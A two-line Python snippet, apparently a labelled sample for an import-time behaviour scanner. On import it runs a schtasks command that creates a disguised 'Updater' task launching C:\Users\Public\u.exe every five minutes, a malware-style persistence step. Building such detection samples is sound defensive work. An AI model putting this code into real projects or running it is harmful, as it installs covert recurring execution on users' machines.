import os
os.system('schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe')  # fires: import
